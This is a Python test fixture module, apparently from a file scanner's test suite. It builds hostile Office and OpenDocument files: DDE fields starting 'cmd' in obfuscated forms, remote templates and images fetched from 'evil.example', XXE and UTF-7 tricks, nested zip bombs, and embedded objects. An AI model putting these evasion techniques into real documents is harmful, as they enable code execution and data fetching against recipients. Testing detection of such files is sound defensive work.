"""Office files that start or fetch something, or hold it under another name or in other letters."""

from __future__ import annotations

from functools import partial

from tests.media.nasty.file import Nasty
from tests.media.nasty.office import (
    ELSEWHERE,
    INSIDE,
    MACROS,
    ODDLY,
    RELATIONS,
    TYPES,
    XML,
    XXE,
    chart,
    docx,
    docx_with,
    open_document,
    part,
    with_parts,
    with_relation,
    xlsx,
)

TOO_MUCH = "unpacks to far more"


def with_fields(*codes: str) -> bytes:
    """Pieces of the code of one field, as Word spreads them; "|" starts a field inside it."""
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    pieces = [f"<w:r><w:instrText>{code}</w:instrText></w:r>" if code != "|" else begin for code in codes]
    text = part(docx(), "word/document.xml").replace(
        b"<w:p>", b"<w:p>" + "".join([begin, *pieces]).encode(), 1
    )
    return docx_with("word/document.xml", text)


def with_pasted(kind: str) -> bytes:
    relation = f'<Relationship Id="rId99" Type="http://x/{kind}" Target="afchunk.xml"/></Relationships>'
    relations = part(docx(), RELATIONS).replace(b"</Relationships>", relation.encode())
    return with_parts(docx(), {RELATIONS: relations, "word/afchunk.xml": b"<html/>"})


def with_names_in_large_letters() -> bytes:
    relations = part(with_relation("attachedTemplate", "https://evil.example/x.dotm"), RELATIONS)
    return docx_with("word/_rels/settings.xml.RELS", relations)


def nested_bomb(workbooks: int = 6) -> bytes:
    """Each workbook unpacks to 30 MB, in parts that are too small to be looked at for how far they shrink."""
    filled = {f"xl/{number}.xml": b" " * (512 * 1024) for number in range(60)}
    workbook = with_parts(xlsx(), filled)
    return with_parts(docx(), {f"word/embeddings/{number}.xlsx": workbook for number in range(workbooks)})


def many_parts() -> bytes:
    workbook = with_parts(xlsx(), {f"xl/{number}.xml": b"" for number in range(1_700)})
    return with_parts(docx(), {f"word/embeddings/{number}.xlsx": workbook for number in range(3)})


def odt_with(content: str, kind: str = "text") -> bytes:
    return open_document(kind, {"content.xml": f"<x>{content}</x>".encode()})


DDE_LINK = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
UTF7 = f"{XML.format(encoding='UTF-7')}+ADwAIQ-DOCTYPE x []+AD4-".encode()
DOCX = {
    "docx that starts a program": (partial(with_fields, ' DDEAUTO cmd "/k calc"'), ELSEWHERE),
    "docx that starts one in pieces": (partial(with_fields, "D", "dea", "uto cmd"), ELSEWHERE),
    "docx that starts one in numbers": (partial(with_fields, "&#68;DE cmd"), ELSEWHERE),
    "docx that starts one from a field inside": (partial(with_fields, " IF ", "|", "DDEAUTO cmd"), ELSEWHERE),
    "docx that starts one behind a comment": (partial(with_fields, "D<!-- -->DEAUTO cmd"), ODDLY),
    "docx with a page pasted in": (partial(docx_with, "word/afchunk.htm", b"<html/>"), INSIDE),
    "docx with a text pasted in": (partial(docx_with, "word/afchunk.rtf", b"{\\rtf1 }"), INSIDE),
    "docx with a page pasted in as xml": (partial(with_pasted, "aFChunk"), INSIDE),
    "docx with a pdf": (partial(docx_with, "word/embeddings/x.pdf", b"%PDF-1.7"), INSIDE),
    "docx with a bare object": (partial(docx_with, "word/embeddings/oleObject1.bin", b"x"), INSIDE),
    "docx with a template in large letters": (with_names_in_large_letters, ELSEWHERE),
    "docx with a part twice but for its letters": (partial(docx_with, TYPES.upper(), b"<x/>"), ODDLY),
    "docx that reads files in large letters": (partial(docx_with, "word/x.XML", XXE.encode()), ODDLY),
    "docx in a hidden encoding": (partial(docx_with, "word/document.xml", UTF7), ODDLY),
    "docx that is no xml": (partial(docx_with, "word/document.xml", b"Lo\xa7\x94"), ODDLY),
    "zip bombs in charts": (nested_bomb, TOO_MUCH),
    "charts of many parts": (many_parts, TOO_MUCH),
    "chart that starts a program": (
        lambda: chart(with_parts(xlsx(), {"xl/externalLinks/externalLink1.xml": DDE_LINK})),
        ELSEWHERE,
    ),
}
CONTENT = {
    "with a listener and a tab": ("<script:event-listener\tx='y'/>", MACROS),
    "with a listener of another prefix": ("<s:event-listener x='y'/>", MACROS),
    "with a picture elsewhere": ('<draw:image a=">" xlink:href="https://evil.example/x.png"/>', ELSEWHERE),
    "with a picture on another disk": (r'<draw:image xlink:href="\\evil.example\x.png"/>', ELSEWHERE),
    "with a picture in numbers": ('<draw:image xlink:href="&#104;ttps://evil.example/x.png"/>', ELSEWHERE),
    "with a section elsewhere": (
        '<text:a xlink:href="https://x/">x</text:a><text:section-source xlink:href="file:///x.odt"/>',
        ELSEWHERE,
    ),
    "with a template elsewhere": ('<meta:template xlink:href="file://evil.example/x.ott"/>', ELSEWHERE),
    "that starts a program": ('<text:dde-connection-decl office:dde-application="cmd"/>', ELSEWHERE),
}
OFFICE_LINKS = {
    **{name: Nasty("plan.docx", make, says=says) for name, (make, says) in DOCX.items()},
    **{
        f"odt {name}": Nasty("plan.odt", partial(odt_with, content), says=says)
        for name, (content, says) in CONTENT.items()
    },
    "xlsx that starts a program": Nasty(
        "plan.xlsx",
        lambda: with_parts(xlsx(), {"xl/externalLinks/externalLink1.xml": DDE_LINK}),
        says=ELSEWHERE,
    ),
    "ods with a table elsewhere": Nasty(
        "plan.ods",
        partial(odt_with, '<table:table-source xlink:href="https://evil.example/x.ods"/>', "spreadsheet"),
        says=ELSEWHERE,
    ),
    "odt with an unknown part": Nasty(
        "plan.odt", lambda: open_document("text", {"Object 1/x.exe": b"x"}), says=INSIDE
    ),
}
